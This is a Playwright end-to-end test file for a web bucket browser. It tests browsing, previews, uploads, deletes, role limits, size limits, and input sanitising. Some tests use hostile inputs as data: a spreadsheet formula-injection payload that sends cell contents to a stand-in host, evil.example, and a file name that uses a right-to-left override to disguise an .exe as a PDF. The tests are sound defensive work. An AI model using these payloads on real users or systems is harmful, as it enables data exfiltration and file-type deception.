// The bucket browser as a person uses it, on the embedded object store with its demo files:
// browse, preview a CSV and a Parquet file, upload with progress (and by drag and drop),
// download, delete; and what it refuses to write (files over a bucket's limit, names with
// invisible characters), plus a CSV download whose formula cells arrive escaped.
import { readFileSync } from "node:fs";
import { expect, type Page } from "@playwright/test";
import { test } from "./fixtures";
import { createUser, SIGNED_OUT, signIn, untilHydrated } from "./helpers";
import { BASE_URL } from "./env";

/** A folder name no other run against the same server uses. */
const uniqueFolder = (label: string) => `${label}-${Date.now().toString(36)}-${Math.random().toString(36).slice(2, 6)}`;

async function openFolder(page: Page, name: string) {
  await page.getByRole("link", { name: `${name}/`, exact: true }).click();
  await expect(page.getByRole("heading", { level: 1, name })).toBeVisible();
}

test("browses buckets and folders, with breadcrumbs and shareable folder URLs", async ({ page }) => {
  await page.goto("/buckets");
  await expect(page.getByRole("heading", { name: "Buckets" })).toBeVisible();
  for (const bucket of ["raw", "staging", "curated", "archive"]) await expect(page.getByRole("link", { name: new RegExp(`^${bucket}`) })).toBeVisible();
  await expect(page.getByRole("link", { name: /^raw/ })).toContainText("6 objects");

  await page.getByRole("link", { name: /^raw/ }).click();
  await expect(page.getByRole("heading", { level: 1, name: "raw" })).toBeVisible();
  await openFolder(page, "weather");
  await expect(page).toHaveURL(/\/buckets\/raw\/tree\/weather$/);
  await expect(page.getByRole("link", { name: "seattle-weather.csv", exact: true })).toBeVisible();

  // The filter narrows by name prefix and lives in the URL, so the filtered view can be shared.
  await page.getByRole("navigation", { name: "Breadcrumb" }).getByRole("link", { name: "raw" }).click();
  await expect(page.getByRole("heading", { level: 1, name: "raw" })).toBeVisible();
  await page.getByLabel("Filter by name").fill("fl");
  await expect(page).toHaveURL(/\/buckets\/raw\?q=fl$/);
  await expect(page.getByRole("link", { name: "flights/", exact: true })).toBeVisible();
  await expect(page.getByRole("link", { name: "weather/", exact: true })).toHaveCount(0);
  await page.goto("/buckets/raw?q=we");
  await expect(page.getByRole("link", { name: "weather/", exact: true })).toBeVisible();
  await expect(page.getByRole("link", { name: "flights/", exact: true })).toHaveCount(0);
});

test("previews a CSV file as a table", async ({ page }) => {
  await page.goto("/buckets/raw/tree/airports");
  await page.getByRole("link", { name: "airports.csv", exact: true }).click();
  await expect(page.getByRole("heading", { level: 1, name: "airports.csv" })).toBeVisible();
  await expect(page.getByText("text/csv")).toBeVisible();
  const table = page.getByRole("table", { name: "First rows of airports.csv" });
  await expect(table.getByRole("columnheader", { name: "iata" })).toBeVisible();
  await expect(table.getByRole("row").nth(1)).toContainText("Thigpen");
  await expect(page.getByText(/First 500 rows, from the first 64\.0 KB of 205 KB/)).toBeVisible();
});

test("previews a Parquet file's schema and first rows without downloading it, and offers a query", async ({ page }) => {
  await page.goto("/buckets/raw/blob/flights/flights-3m.parquet");
  await expect(page.getByText(/3,000,000 rows · 5 columns · 11 row groups/)).toBeVisible();
  const schema = page.getByRole("list", { name: "Schema" });
  await expect(schema).toContainText("origin");
  await expect(schema).toContainText("TIMESTAMP(MICROS)");
  const table = page.getByRole("table", { name: "First rows of flights-3m.parquet" });
  await expect(table.getByRole("row").nth(1)).toContainText("LAS");
  await expect(page.getByText(/the file was not downloaded/)).toBeVisible();
  const href = await page.getByRole("link", { name: "Query this file" }).getAttribute("href");
  const query = new URL(href!, "http://portal").searchParams.get("query");
  // Named by bucket and key, never by the server's own folder.
  expect(query).toBe("SELECT * FROM read_parquet('s3://raw/flights/flights-3m.parquet') LIMIT 100");
});

test("uploads with progress, downloads, and deletes with a confirmation that says what goes", async ({ page }) => {
  const folder = uniqueFolder("e2e-upload");
  await page.goto("/buckets/staging");
  await page.getByRole("button", { name: "New folder" }).click();
  await page.getByLabel("Folder name").fill(folder);
  await page.getByRole("button", { name: "Create folder" }).click();
  await expect(page.getByRole("heading", { level: 1, name: folder })).toBeVisible();
  await expect(page.getByText("This folder is empty")).toBeVisible();

  // 12 MB: large enough to report progress on the way, and to go up in parts on S3.
  const big = Buffer.alloc(12 * 1024 * 1024, 42);
  await page.getByTestId("upload-input").setInputFiles([
    { name: "big.bin", mimeType: "application/octet-stream", buffer: big },
    { name: "weather.csv", mimeType: "text/csv", buffer: readFileSync("node_modules/vega-datasets/data/seattle-weather.csv") },
  ]);
  const uploads = page.getByRole("region", { name: "Uploads" });
  await expect(uploads.getByRole("progressbar", { name: "Upload of big.bin" })).toBeVisible();
  await expect(uploads.getByRole("heading", { name: "Uploads finished" })).toBeVisible({ timeout: 30_000 });
  await expect(uploads.getByRole("progressbar", { name: "Upload of big.bin" })).toHaveAttribute("aria-valuenow", "100");
  await expect(page.getByRole("link", { name: "big.bin", exact: true })).toBeVisible();
  await expect(page.getByRole("row").filter({ hasText: "big.bin" })).toContainText("12.0 MB");

  // Files dropped onto the folder upload too.
  const dropped = await page.evaluateHandle(() => {
    const data = new DataTransfer();
    data.items.add(new File(["dropped on the folder\n"], "dropped.txt", { type: "text/plain" }));
    return data;
  });
  const table = page.getByRole("table", { name: "Folders and files" });
  await table.dispatchEvent("dragenter", { dataTransfer: dropped });
  await expect(page.getByText(`Drop to upload into staging/${folder}/`)).toBeVisible();
  await table.dispatchEvent("drop", { dataTransfer: dropped });
  await expect(page.getByRole("link", { name: "dropped.txt", exact: true })).toBeVisible();

  // The same name again asks before replacing.
  await page.getByTestId("upload-input").setInputFiles([{ name: "weather.csv", mimeType: "text/csv", buffer: Buffer.from("date,temp\n2024-01-01,3\n") }]);
  await expect(uploads.getByText('"weather.csv" already exists here. Replace it?')).toBeVisible();
  await uploads.getByRole("button", { name: "Replace" }).click();
  await expect(page.getByRole("row").filter({ hasText: "weather.csv" })).toContainText("23 B");

  const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("link", { name: "Download big.bin" }).click()]);
  expect(download.suggestedFilename()).toBe("big.bin");
  expect(readFileSync((await download.path())!).length).toBe(big.length);

  // Delete one file from the folder view.
  await page.getByLabel("Select weather.csv").check();
  await page.getByRole("button", { name: "Delete 1" }).click();
  const dialog = page.getByRole("dialog");
  await expect(dialog.getByTestId("delete-summary")).toContainText("This deletes 1 object (23 B)");
  await dialog.getByRole("button", { name: "Delete 1 object" }).click();
  await expect(page.getByRole("link", { name: "weather.csv", exact: true })).toHaveCount(0);

  // Delete the folder with what is left in it from the bucket root.
  await page.getByRole("navigation", { name: "Breadcrumb" }).getByRole("link", { name: "staging" }).click();
  await expect(page.getByRole("heading", { level: 1, name: "staging" })).toBeVisible();
  await page.getByLabel(`Select ${folder}`).check();
  await page.getByRole("button", { name: "Delete 1" }).click();
  await expect(dialog.getByTestId("delete-summary")).toContainText("This deletes 2 objects (12.0 MB), including everything inside 1 folder");
  await dialog.getByRole("button", { name: "Delete 2 objects" }).click();
  await expect(page.getByRole("link", { name: `${folder}/`, exact: true })).toHaveCount(0);

  // Both changes are in the audit log.
  await page.goto("/admin/audit");
  await untilHydrated(page.getByLabel("Subject contains"));
  await page.getByLabel("Action").selectOption("group:sql");
  await page.getByLabel("Subject contains").fill(folder);
  await expect(page.getByRole("row").filter({ hasText: "storage.uploaded" }).first()).toBeVisible();
  await expect(page.getByRole("row").filter({ hasText: "storage.deleted" }).first()).toBeVisible();
});

test("a viewer browses and downloads, but is offered no upload, new folder or delete", async ({ browser }) => {
  const viewer = await createUser({ label: "bucket-viewer", role: "viewer" });
  const context = await browser.newContext({ storageState: SIGNED_OUT });
  const page = await context.newPage();
  await signIn(page, viewer);
  await page.goto("/buckets");
  await expect(page.getByRole("link", { name: /^raw/ })).toContainText("Read only");
  await page.goto("/buckets/raw/tree/airports");
  await expect(page.getByText("Read only")).toBeVisible();
  await expect(page.getByRole("link", { name: "airports.csv", exact: true })).toBeVisible();
  await expect(page.getByRole("button", { name: "Upload" })).toHaveCount(0);
  await expect(page.getByRole("button", { name: "New folder" })).toHaveCount(0);
  await expect(page.getByRole("checkbox")).toHaveCount(0);
  await page.getByRole("link", { name: "airports.csv", exact: true }).click();
  await expect(page.getByRole("link", { name: "Download" })).toBeVisible();
  await expect(page.getByRole("button", { name: "Delete" })).toHaveCount(0);
  // The server refuses what the page does not offer.
  const upload = await page.request.put("/api/storage/upload?bucket=raw&key=sneaky.txt", { data: "x" });
  expect(upload.status()).toBe(403);
  expect((await upload.json()).error).toContain("needs the editor role");
  await context.close();
});

test("a bucket or file that does not exist is a 404 page", async ({ page }) => {
  const missingBucket = await page.goto("/buckets/no-such-bucket");
  expect(missingBucket?.status()).toBe(404);
  await expect(page.getByRole("heading", { name: "No such bucket or file" })).toBeVisible();
  const missingFile = await page.goto("/buckets/raw/blob/flights/missing.parquet");
  expect(missingFile?.status()).toBe(404);
  await expect(page.getByRole("heading", { name: "No such bucket or file" })).toBeVisible();
});

test("a file over the bucket's upload limit is refused in the browser, before a byte is sent, and by the server", async ({ page }) => {
  // playwright.config.ts gives "archive" a 1 MB limit.
  const uploadsSent: string[] = [];
  page.on("request", (r) => void (r.url().includes("/api/storage/upload") && uploadsSent.push(r.url())));
  await page.goto("/buckets/archive");
  await expect(page.getByTestId("upload-limit")).toHaveText("Files up to 1 MB");
  const name = `${uniqueFolder("too-big")}.bin`;
  await page.getByTestId("upload-input").setInputFiles([{ name, mimeType: "application/octet-stream", buffer: Buffer.alloc(2 * 1024 * 1024, 1) }]);
  const uploads = page.getByRole("region", { name: "Uploads" });
  await expect(uploads.getByText("This file is 2 MB; bucket archive accepts uploads up to 1 MB.")).toBeVisible();
  await expect(uploads.getByText("Bucket archive accepts files up to 1 MB.")).toBeVisible();
  await expect(uploads.locator('[data-upload-status="refused"]')).toHaveCount(1);
  await expect(uploads.getByRole("button", { name: "Retry" })).toHaveCount(0);
  expect(uploadsSent).toEqual([]);

  // A client that skips the page's check gets the same answer from the server, and nothing is stored.
  const sneaky = await page.request.put(`/api/storage/upload?bucket=archive&key=${encodeURIComponent(name)}`, {
    data: Buffer.alloc(2 * 1024 * 1024, 1),
    headers: { "content-type": "application/octet-stream", origin: BASE_URL },
  });
  expect(sneaky.status()).toBe(413);
  expect((await sneaky.json()).error).toBe("This file is 2 MB; bucket archive accepts uploads up to 1 MB.");
  await page.reload();
  await expect(page.getByRole("link", { name, exact: true })).toHaveCount(0);
});

test("a file whose name hides a right-to-left override is refused, naming the character", async ({ page }) => {
  const folder = uniqueFolder("e2e-bidi");
  await page.goto("/buckets/staging");
  await page.getByRole("button", { name: "New folder" }).click();
  await page.getByLabel("Folder name").fill(folder);
  await page.getByRole("button", { name: "Create folder" }).click();
  await expect(page.getByRole("heading", { level: 1, name: folder })).toBeVisible();

  // Shown as "invoiceexe.pdf" by any bidi-aware display, but really an .exe.
  await page.getByTestId("upload-input").setInputFiles([{ name: "invoice\u202Efdp.exe", mimeType: "application/octet-stream", buffer: Buffer.from("MZ") }]);
  const uploads = page.getByRole("region", { name: "Uploads" });
  await expect(uploads.getByText(`File names may not contain the invisible right-to-left override U+202E (in "${folder}/invoice[U+202E]fdp.exe").`)).toBeVisible();
  await expect(page.getByText("This folder is empty")).toBeVisible();

  // A folder name with one is refused too.
  await page.getByRole("button", { name: "New folder" }).click();
  await page.getByLabel("Folder name").fill("reports\u2067");
  await page.getByRole("button", { name: "Create folder" }).click();
  await expect(page.getByText(/Folder names may not contain the invisible right-to-left isolate U\+2067/)).toBeVisible();
});

test("a CSV download escapes cells a spreadsheet would run as formulas, and keeps numbers", async ({ page }) => {
  await page.goto("/buckets");
  const sql = `SELECT '=HYPERLINK("http://evil.example/?"&A1,"open")' AS link, '@SUM(1)' AS at, -3 AS n, '-3+A1' AS s`;
  const response = await page.request.post("/api/sql/download", { data: { engineId: "duckdb", sql, format: "csv" }, headers: { origin: BASE_URL } });
  expect(response.status()).toBe(200);
  expect(await response.text()).toBe(`link,at,n,s\r\n"'=HYPERLINK(""http://evil.example/?""&A1,""open"")","'@SUM(1)",-3,"'-3+A1"\r\n`);
});
